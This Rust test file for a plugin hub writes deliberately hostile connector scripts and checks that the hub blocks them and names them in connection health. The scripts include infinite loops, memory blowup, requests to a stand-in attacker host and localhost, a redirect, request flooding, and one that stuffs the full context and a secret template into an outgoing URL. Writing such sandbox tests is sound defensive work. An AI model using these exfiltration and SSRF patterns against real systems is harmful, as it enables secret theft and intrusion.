//! Packs that mean harm: they harm nobody else, and are named in their connection's health.

use std::path::Path;

use axum::Router;
use axum::http::StatusCode;
use axum::routing::get;
use serde_json::json;
use spine::testing::TempDir;

use super::{Alice, Shop, elsewhere, hub_with};

fn pack(dir: &Path, id: &str, hosts: &str, sync: &str) {
    let folder = dir.join(id);
    std::fs::create_dir_all(&folder).unwrap();
    let manifest = format!(
        "id = \"{id}\"\nversion = \"1.0.0\"\nkind = [\"connector\"]\ndescription = \"Means harm.\"\nscript = \"x.rhai\"\n\
         entities = [\"Document\"]\nhosts = [{hosts}]\n[auth]\nscheme = \"bearer\"\ntoken = \"{{secrets.token}}\"\n\
         [[setting]]\nname = \"url\"\ntype = \"url\"\ndescription = \"Where.\"\n\
         [[secret]]\nname = \"token\"\ndescription = \"A secret.\"\n\
         [[stream]]\nname = \"things\"\nfunction = \"read_page\"\nmodes = [\"full\"]\n"
    );
    std::fs::write(folder.join("plugin.toml"), manifest).unwrap();
    std::fs::write(
        folder.join("x.rhai"),
        format!("fn read_page(ctx, stream, cursor) {{ {sync} }}\n"),
    )
    .unwrap();
}

/// Sends whoever asks on to somewhere else, and remembers what it was asked.
async fn redirecting(to: String, heard: std::sync::Arc<std::sync::Mutex<Vec<String>>>) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let redirect = move |uri: axum::http::Uri| {
        heard.lock().unwrap().push(uri.to_string());
        let to = to.clone();
        async move { (StatusCode::FOUND, [("location", to)]) }
    };
    let router = Router::new().fallback(get(redirect));
    tokio::spawn(async move { axum::serve(listener, router).await });
    url
}

#[tokio::test]
async fn hostile_packs_harm_nobody_and_are_named_in_health() {
    let dir = TempDir::new();
    let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let shop = Shop::start(30).await;
    let away = redirecting("http://192.0.2.1/".into(), heard.clone()).await;
    let own = "\"{settings.url}\"";
    for (id, sync) in [
        ("endless", "loop { }"),
        ("greedy", "let a = [0]; loop { a += a; }"),
        ("stranger", "http.get(\"https://mallory.example/\"); #{}"),
        ("local", "http.get(\"http://127.0.0.1:1/\"); #{}"),
        ("redirected", "http.get(ctx.settings.url + \"/go\"); #{}"),
        (
            "curious",
            "http.get(ctx.settings.url + \"/\" + uri_encode(to_json(ctx)) + \"{secrets.token}\"); #{}",
        ),
        (
            "flood",
            "let n = 0; while n < 100 { http.get(ctx.settings.url + \"/\" + n); n += 1; } #{}",
        ),
        ("circle", "#{ more: true, cursor: cursor }"),
        ("shapeless", "42"),
    ] {
        pack(dir.path(), id, own, sync);
    }
    let poller = crate::metadata::root().join("plugins/poller");
    std::fs::create_dir_all(dir.path().join("poller")).unwrap();
    for file in ["plugin.toml", "poller.rhai"] {
        std::fs::copy(poller.join(file), dir.path().join("poller").join(file)).unwrap();
    }
    let hub = hub_with(dir.path()).await;
    let alice = Alice::with(&hub, hub.somebody(), &elsewhere(&hub.context, dir.path()));
    let mut connected = Vec::new();
    for (id, named) in [
        ("endless", "script failed at endless/x.rhai:1:"),
        ("greedy", "script failed at greedy/x.rhai:1:"),
        ("stranger", "refused by the hub"),
        ("local", "refused by the hub"),
        ("redirected", "refused by the hub"),
        ("curious", ""),
        ("flood", "more requests than a run may"),
        ("circle", "names no other place to go on"),
        ("shapeless", "returned something else"),
    ] {
        let secrets = json!({ "token": "top-secret" });
        let url = if id == "flood" { shop.url() } else { away.clone() };
        connected.push((id, named, alice.connect(id, json!({ "url": url }), secrets).await));
    }
    let good = alice.connect_shop(&shop).await;
    alice.until_read(&good).await;
    assert_eq!(
        alice.count("Transaction").await,
        30,
        "who means well is read meanwhile"
    );
    for (id, named, connection) in connected {
        let shown = alice
            .until(id, &connection, |shown| {
                shown["streams"][0]["failures"].as_i64() > Some(0)
            })
            .await;
        let reason = shown["reason"].as_str().unwrap();
        assert!(reason.contains(named), "{id}: {reason}");
        assert_ne!(shown["health"], "active", "{id}");
        assert!(!shown.to_string().contains("top-secret"), "{id}");
    }
    assert_eq!(alice.count("Document").await, 0);
    let heard = heard.lock().unwrap();
    assert!(
        heard.iter().all(|asked| !asked.contains("top-secret")),
        "{heard:?}"
    );
    assert!(
        heard.iter().any(|asked| asked.contains("token")),
        "a script knows the secret's name, and no more"
    );
}
